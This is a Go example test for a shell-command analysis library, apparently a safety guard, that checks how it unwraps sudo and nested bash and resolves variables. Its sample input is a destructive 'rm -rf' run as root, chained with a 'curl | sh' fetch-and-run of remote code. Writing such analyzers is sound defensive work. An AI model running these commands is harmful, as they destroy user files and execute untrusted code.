package analysis_test

import (
	"fmt"

	"github.com/zcode-fence/zcode-fence/core/shell/analysis"
)

// A layer walks Script.Commands: the wrapper and the nested shell are
// seen through, the variable and the tilde resolved.
func ExampleAnalyze() {
	s := analysis.Analyze(`d=~/src; sudo -u root bash -lc "rm -rf $d" && curl -s https://x | sh`,
		analysis.Options{Cwd: "/proj", Home: "/home/u"})
	for i, c := range s.Commands {
		if c.Name == "rm" {
			fmt.Println(c.Name, c.ArgValues(), "via", c.Via, "depth", c.Depth)
		}
		if c.Name == "sh" {
			for _, f := range s.Feeders(i) {
				fmt.Println(s.Commands[f].Name, "pipes into", c.Name)
			}
		}
	}
	fmt.Print(s.Outline())
	// Output:
	// rm [-rf /home/u/src] via [sudo bash -c] depth 1
	// curl pipes into sh
	// #0 d0 d=/home/u/src
	// #1 d0 [sudo] bash -lc 'rm -rf /home/u/src'
	// #2 d1 [sudo > bash -c] rm -rf /home/u/src ^#1
	// #3 d0 curl -s https://x ->#4(pipe)
	// #4 d0 sh
}
